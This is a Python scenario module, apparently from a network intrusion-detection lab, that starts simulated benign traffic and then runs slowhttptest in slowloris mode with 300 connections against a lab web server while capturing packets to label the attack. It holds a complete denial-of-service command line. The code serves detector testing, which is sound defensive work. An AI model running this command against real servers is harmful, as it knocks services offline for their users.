"""slowhttptest in slowloris mode against lighttpd: 300 connections that
send a header line every 5 s and never finish, for 20 s."""
import benign

NAME = 'slowloris'
KIND = 'slow-dos'
TOOLS = ['slowhttptest', 'lighttpd', 'dnsmasq', 'mosquitto', 'tcpdump']
FAST = False
EXPECT = []
DETECTORS = ['flood', 'http']
ATTACKER = '198.51.100.66'


def run(lab, ctx):
    benign.city(lab, ctx)
    lab.host('attacker', [ATTACKER + '/24'])
    cmd = ['slowhttptest', '-H', '-c', '300', '-r', '100', '-i', '5', '-l', '20', '-p', '3',
           '-u', 'http://%s/' % benign.WEB]
    lab.capture(ctx.pcap)
    benign.start(lab, ctx, rounds=10)
    lab.run('attacker', cmd, timeout=60, log=ctx.log('slowhttptest'))
    return {'tool': 'slowhttptest', 'command': ' '.join(cmd), 'attacker': [ATTACKER],
            'victim': [benign.WEB], 'benign': benign.ADDRS,
            'first': 'ip.src==%s && tcp.flags.syn==1' % ATTACKER}
